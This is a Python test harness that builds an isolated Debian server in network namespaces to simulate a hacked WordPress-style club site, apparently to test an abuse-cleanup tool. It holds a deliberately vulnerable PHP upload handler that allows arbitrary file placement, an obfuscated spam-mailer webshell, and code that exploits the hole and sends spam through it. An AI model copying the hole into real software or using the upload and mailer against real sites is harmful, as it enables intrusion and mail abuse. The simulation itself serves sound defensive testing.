# SPDX-License-Identifier: Apache-2.0
"""A customer's server that was broken into: a small real Debian with its own processes, network and clock of events.

    hacked_server.own_network()                # first of all: the test moves into a network of its own
    with hacked_server.Server(folder) as server:
        server.visit()                         # people look at the club's pages
        server.break_in()                      # somebody uploads a mailer through the booking plugin
        server.send_spam(30)                   # and uses it; the mail goes out by the server's real Postfix
        server.run("abate", "sweep")           # a program on the server: CompletedProcess

Apache runs PHP, Postfix sends. Provider and server are two network namespaces joined by one cable, so addresses are those of
documentation and nothing can leave. The mailer is the test's own, and its mail can only reach the test's own mail server.
"""
import contextlib
import http.client
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import threading
import urllib.parse

import small_debian
from sinks import until

ADDRESS, SITE, HOST = "203.0.113.12", "club.example", "vps1002.meadow.example"
DESK_ADDRESS, MX_ADDRESS, INTRUDER, VISITORS = "192.0.2.80", "192.0.2.25", "198.51.100.77", [f"198.51.100.{n}" for n in range(10, 16)]
PACKAGES = ("procps", "iproute2", "postfix", "apache2", "libapache2-mod-php")
DOCROOT = "/var/www/club/htdocs"
UPLOAD = "/wp-content/plugins/ride-booking/api/import.php"
MAILER = "/wp-content/uploads/2026/11/ride-9.php"
WEB_USER = 33
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

PAGES = {
    "/index.php": "<?php\nheader('Content-Type: text/html');\necho '<h1>Harbour Cycling</h1>';\n",
    "/wp-includes/version.php": "<?php\n$wp_version = '6.1.6';\n",
    "/wp-content/uploads/index.php": "<?php\n// Silence is golden.\n",
    "/wp-content/plugins/ride-booking/ride-booking.php":
        "<?php\n/**\n * Plugin Name: Ride Booking\n * Version: 1.9.0\n */\ndefined( 'ABSPATH' ) || exit;\n",
    # The hole: whoever asks may put any file anywhere beneath the uploads.
    UPLOAD: "<?php\n// imports rides from a file\nforeach ( $_FILES as $f ) {\n\t$to = dirname( __DIR__, 3 ) . '/uploads/' . $_POST['month'] . '/' . $f['name'];\n"
            "\tmove_uploaded_file( $f['tmp_name'], $to );\n}\necho 'imported';\n",
}
# What kits do, and no more than this test needs: code that hides itself, and mail to whom the request says.
DROPPED = ("<?php\n@eval(base64_decode('ZWNobyAnJzs='));\nif (isset($_POST['to'])) {\n\tmail($_POST['to'], $_POST['subject'], $_POST['body'],"
           " 'From: ' . $_POST['from']);\n\techo 'ok';\n}\n")


def own_network():
    """The test becomes root in a network namespace of its own, where every address is its own."""
    if os.geteuid() != 0:
        os.execvp("sudo", ["sudo", "-n", "--preserve-env=PATH", sys.executable, *sys.argv])
    if os.getpid() != 1:  # in a namespace of processes that was made just now, we are the first
        # --fork: the parent waits, so whoever kills it for a time-out takes all of it along.
        os.execvp("unshare", ["unshare", "--net", "--pid", "--mount-proc", "--fork", "--kill-child", sys.executable, *sys.argv])


def say(*words):
    subprocess.run(words, check=True, capture_output=True, text=True)


class Server:
    def __init__(self, folder, programs=()):
        self.root, self.process, self.sent, self.fronts = folder / "root", None, 0, []
        small_debian.make(self.root, PACKAGES)
        self._configure()
        for program in programs:
            shutil.copy2(program, self.root / "usr/local/bin" / pathlib.Path(program).name)

    def __enter__(self):
        return self.start()

    def __exit__(self, *_):
        self.stop()

    # What is on its disk.

    def put(self, path, text, uid=0, mode=0o644):
        real = self.root / path.lstrip("/")
        real.parent.mkdir(parents=True, exist_ok=True)
        real.write_text(text)
        real.chmod(mode)
        os.chown(real, uid, uid)

    def _configure(self):
        for tree in ("apache2", "php"):  # what packages make when they are set up
            shutil.copytree(f"/etc/{tree}", self.root / "etc" / tree, symlinks=True, dirs_exist_ok=True)
        for site in (self.root / "etc/apache2/sites-enabled").iterdir():
            site.unlink()
        self.put("/etc/apache2/sites-enabled/club.conf",
                 f"ServerName {HOST}\n<VirtualHost *:80>\n    ServerName {SITE}\n    ServerAlias www.{SITE}\n    DocumentRoot {DOCROOT}\n"
                 f"    <Directory {DOCROOT}>\n        AllowOverride All\n        Require all granted\n    </Directory>\n"
                 "    CustomLog /var/log/apache2/club-access.log combined\n    ErrorLog /var/log/apache2/club-error.log\n</VirtualHost>\n")
        for path, text in PAGES.items():
            self.put(DOCROOT + path, text, WEB_USER)
        for folder in ("uploads/2026/11", "plugins"):
            (self.root / DOCROOT.lstrip("/") / "wp-content" / folder).mkdir(parents=True, exist_ok=True)
        for folder, _, _ in os.walk(self.root / "var/www/club"):
            os.chown(folder, WEB_USER, WEB_USER)
        self.put("/etc/postfix/main.cf",
                 f"compatibility_level = 3.6\nmyhostname = {HOST}\nmydestination = $myhostname, localhost\nmynetworks = 127.0.0.0/8\n"
                 f"inet_interfaces = loopback-only\ninet_protocols = ipv4\nrelayhost = [{MX_ADDRESS}]\nsmtp_host_lookup = native\n"
                 "smtpd_relay_restrictions = permit_mynetworks, reject_unauth_destination\nmaillog_file = /var/log/mail.log\n"
                 "alias_maps =\nalias_database =\n")
        (self.root / "etc/postfix/master.cf").write_text(pathlib.Path("/usr/share/postfix/master.cf.dist").read_text())
        for file in (self.root / "etc/postfix/master.cf",):  # no chroot within the chroot
            file.write_text("\n".join("\t".join([*line.split()[:4], "n", *line.split()[5:]]) if line[:1].isalpha() and len(line.split()) > 7 else line
                                      for line in file.read_text().splitlines()) + "\n")
        self.put("/etc/hostname", HOST.split(".")[0] + "\n")
        self.put("/etc/hosts", f"127.0.0.1 localhost\n{ADDRESS} {HOST}\n{DESK_ADDRESS} abuse.example.net\n")
        self.put("/etc/nsswitch.conf", "passwd: files\ngroup: files\nshadow: files\nhosts: files\n")
        self.put("/etc/resolv.conf", "")
        self.put("/etc/machine-id", "0c7d5a1e4b7f4c0f9d0f8d7a5e3b1c2d\n")
        self.put("/etc/network/interfaces", f"auto eth0\niface eth0 inet static\n    address {ADDRESS}/24\n    gateway 203.0.113.1\n")
        for name, (major, minor) in {"null": (1, 3), "zero": (1, 5), "random": (1, 8), "urandom": (1, 9), "tty": (5, 0)}.items():
            say("mknod", "-m", "666", str(self.root / "dev" / name), "c", str(major), str(minor))

    # Its processes and its network.

    def start(self):
        say("ip", "link", "set", "lo", "up")
        # Between namespaces, --kill-child takes everything on the server along when this test ends.
        self.process = subprocess.Popen(["unshare", "--net", "--pid", "--mount", "--uts", "--fork", "--kill-child", "sh", "-c",
                                         f"hostname {HOST}; mount -t proc proc {self.root}/proc && exec chroot {self.root} sleep infinity"])
        self.init = until("the server's first process", self._first_process)
        say("ip", "link", "add", "cable", "type", "veth", "peer", "name", "eth0", "netns", str(self.init))
        for address in (f"{DESK_ADDRESS}/24", f"{MX_ADDRESS}/24", *(f"{one}/32" for one in (INTRUDER, *VISITORS))):
            say("ip", "address", "add", address, "dev", "cable")
        say("ip", "link", "set", "cable", "up")
        say("ip", "route", "add", "203.0.113.0/24", "dev", "cable")
        for words in ("link set lo up", f"address add {ADDRESS}/24 dev eth0", "link set eth0 up", "route add default dev eth0"):
            say("nsenter", "-t", str(self.init), "-n", "ip", *words.split())
        self.run("postfix", "start", check=True)
        self.run("apache2ctl", "start", check=True)
        until("the club's page", lambda: self.ask("/").status == 200)
        return self

    def _first_process(self):
        children = subprocess.run(["pgrep", "-P", str(self.process.pid)], capture_output=True, text=True).stdout.split()
        return int(children[0]) if children and os.readlink(f"/proc/{children[0]}/root") == str(self.root) else None

    def stop(self):
        for listener in self.fronts:
            with contextlib.suppress(OSError):
                listener.shutdown(socket.SHUT_RDWR)
            listener.close()
        if self.process:
            self.process.kill()
            self.process.wait()
            self.process = None

    def run(self, *words, check=False, timeout=120, **more):
        """A program on the server, as root."""
        done = subprocess.run(["nsenter", "-t", str(self.init), "-n", "-p", "-m", "-u", f"--root=/proc/{self.init}/root", "env", "-C", "/", "-i",
                               "PATH=/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8",
                               *(f"{name}={value}" for name, value in more.pop("env", {}).items()), *words],
                              stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=timeout, **more)
        assert not check or done.returncode == 0, f"{words}: {done.returncode}\n{done.stdout}\n{done.stderr}"
        return done

    def front(self, address, port, to_port, wrap=lambda line: line):
        """Passes what comes to an address of the provider's side on to a port of loopback; `wrap`: TLS around each line."""
        listener = socket.create_server((address, port))
        self.fronts.append(listener)

        def serve():
            while True:
                try:
                    client, _ = listener.accept()
                except OSError:
                    return  # closed: the story is over
                threading.Thread(target=pass_on, args=(client,), daemon=True).start()

        def pass_on(client):
            with contextlib.suppress(OSError), wrap(client) as line, socket.create_connection(("127.0.0.1", to_port)) as inner:
                back = threading.Thread(target=copy, args=(inner, line), daemon=True)
                back.start()
                copy(line, inner)
                back.join()

        def copy(source, sink):
            with contextlib.suppress(OSError):
                while part := source.recv(65536):
                    sink.sendall(part)
            with contextlib.suppress(OSError):
                sink.shutdown(socket.SHUT_WR)

        threading.Thread(target=serve, daemon=True).start()

    # What people do with it.

    def ask(self, path, form=None, client=VISITORS[0], kind="application/x-www-form-urlencoded"):
        """One request to the site; the answer, its body read as `text`."""
        line = http.client.HTTPConnection(ADDRESS, 80, timeout=30, source_address=(client, 0))
        try:
            body = urllib.parse.urlencode(form) if isinstance(form, dict) else form
            line.request("POST" if form else "GET", path, body, {"Host": SITE, "User-Agent": AGENT} | ({"Content-Type": kind} if form else {}))
            answer = line.getresponse()
            answer.text = answer.read().decode(errors="replace")
            return answer
        except OSError as refused:
            refused.status, refused.text = 0, str(refused)
            return refused
        finally:
            line.close()

    def visit(self):
        for client in VISITORS:
            assert self.ask("/", client=client).status == 200

    def break_in(self):
        """Uploads the mailer through the plugin's hole, as the access log will tell."""
        parts = ("--b\r\nContent-Disposition: form-data; name=\"month\"\r\n\r\n2026/11\r\n"
                 f"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{pathlib.Path(MAILER).name}\"\r\nContent-Type: image/jpeg\r\n\r\n{DROPPED}\r\n--b--\r\n")
        self.ask("/wp-content/plugins/ride-booking/readme.txt", client=INTRUDER)
        answer = self.ask(UPLOAD, parts, INTRUDER, "multipart/form-data; boundary=b")
        assert (answer.status, answer.text) == (200, "imported"), answer.text
        assert (self.root / (DOCROOT + MAILER).lstrip("/")).exists()

    def send_spam(self, count):
        """One request a mail; True when the mailer took them all."""
        done = 0
        for _ in range(count):
            self.sent += 1
            done += self.ask(MAILER, {"to": f"user{self.sent}@mailbox.example", "subject": f"Invoice {self.sent}", "body": "Open it now.",
                                      "from": f"info@{SITE}"}, INTRUDER).text == "ok"
        return done == count
